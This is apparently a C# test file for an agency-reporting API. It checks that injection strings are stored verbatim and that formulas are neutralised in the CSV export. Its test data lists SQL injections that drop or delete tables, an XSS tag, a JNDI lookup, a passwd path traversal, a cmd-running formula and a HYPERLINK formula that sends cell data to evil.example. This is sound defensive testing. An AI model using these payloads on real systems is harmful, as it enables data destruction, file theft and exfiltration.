using System.Net;
using System.Net.Http.Json;
using System.Text.Json.Nodes;
using PerfEval.Api.Tests.Infrastructure;

namespace PerfEval.Api.Tests.Hostile;

/// <summary>SQL, script and path injection strings in text fields and queries are data: stored and returned verbatim, never executed.</summary>
[Trait("Provider", "each")]
public sealed class InjectionStringTests(TestApp app) : IClassFixture<TestApp>
{
    public static TheoryData<string> Strings() => new(
        "'; DROP TABLE agencies; --", "\" OR \"1\"=\"1", "1' OR '1'='1' /*", "%' OR a.id LIKE '%", "<script>alert(1)</script>",
        "${jndi:ldap://x/a}", "../../etc/passwd", "{scope}", "@AgencyId", "\\' \\\" \\\\", "Robert'); DELETE FROM report_versions;--");

    [Theory]
    [MemberData(nameof(Strings))]
    public async Task Injection_strings_are_stored_and_returned_verbatim(string injection)
    {
        var admin = app.Client();
        var agency = "inj-" + Guid.NewGuid().ToString("N")[..8];
        var created = await admin.PostAsJsonAsync("/api/v1/agencies",
            new { id = agency, code = agency + injection, name = injection, regionCode = "430423", sector = injection });
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var put = await admin.PutReportAsync(agency, 2022, Documents.Minimal(2022, agencyName: injection));
        Assert.Equal(HttpStatusCode.Created, put.StatusCode);

        var read = JsonNode.Parse(await admin.GetStringAsync($"/api/v1/agencies/{agency}"))!;
        Assert.Equal(injection, read["name"]!.GetValue<string>());
        Assert.Equal(agency + injection, read["code"]!.GetValue<string>());
        var report = JsonNode.Parse(await admin.GetStringAsync($"/api/v1/agencies/{agency}/reports/2022"))!;
        Assert.Equal(injection, report["document"]!["agency"]!["name"]!.GetValue<string>());

        var query = Uri.EscapeDataString(injection);
        var list = await admin.GetAsync($"/api/v1/agencies?regionCode={query}");
        Assert.Equal(HttpStatusCode.OK, list.StatusCode);
        Assert.Empty(JsonNode.Parse(await list.Content.ReadAsStringAsync())!.AsArray());
        Assert.Equal(HttpStatusCode.OK, (await admin.GetAsync($"/api/v1/findings?ruleId={query}")).StatusCode);
        Assert.Equal(1, await admin.VersionCountAsync(agency, 2022));
    }

    public static TheoryData<string> FormulaStrings() => new(
        "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击\")", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "=1+1", "-负数");

    /// <summary>
    /// Spreadsheet formulas are data too: stored and returned verbatim as JSON, and written to the CSV export with a
    /// leading apostrophe so that a spreadsheet shows them as text instead of running them (OWASP CSV injection).
    /// </summary>
    [Theory]
    [MemberData(nameof(FormulaStrings))]
    public async Task Formula_strings_are_stored_verbatim_and_exported_as_text(string formula)
    {
        var admin = app.Client();
        var agency = "csv-" + Guid.NewGuid().ToString("N")[..8];
        await admin.CreateAgencyAsync(agency, "430424", formula);
        Assert.Equal(HttpStatusCode.Created, (await admin.PutReportAsync(agency, 2022, Documents.Minimal(2022, agencyName: formula))).StatusCode);

        var read = JsonNode.Parse(await admin.GetStringAsync($"/api/v1/agencies/{agency}"))!;
        Assert.Equal(formula, read["name"]!.GetValue<string>());
        var csv = await admin.GetStringAsync("/api/v1/exports/reports?regionCode=430424&fiscalYear=2022&format=csv");
        var neutral = "'" + formula;
        var quoted = "\"" + neutral.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
        Assert.True(csv.Contains("," + neutral + ",", StringComparison.Ordinal) || csv.Contains("," + quoted + ",", StringComparison.Ordinal)
            || csv.Contains("," + neutral + "\r\n", StringComparison.Ordinal) || csv.Contains("," + quoted + "\r\n", StringComparison.Ordinal), csv);
        Assert.DoesNotContain("," + formula + ",", csv, StringComparison.Ordinal);
    }
}
